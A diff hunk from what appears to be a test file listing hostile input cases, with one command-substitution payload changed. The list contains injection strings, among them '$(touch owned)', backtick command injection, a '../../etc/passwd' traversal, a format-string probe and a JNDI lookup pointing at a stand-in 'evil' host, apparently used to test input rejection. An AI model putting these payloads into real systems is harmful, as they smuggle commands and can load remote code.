@@ -57,7 +57,7 @@ HOSTILE = [
     case("a\x1fb", name="separator", gain=DSL),
     case("a=b", name="equals", gain=DSL),
     case("../../etc/passwd", name="path", gain=SHELL),
-    case("$(touch /tmp/x)", name="command", gain=SHELL),
+    case("$(touch owned)", name="command", gain=SHELL),
     case("`id`; ls | cat", name="backticks", gain=SHELL),
     case("{0.__class__}", name="format", gain=SHELL),
     case("${jndi:ldap://evil/a}", name="lookup", gain=SHELL),
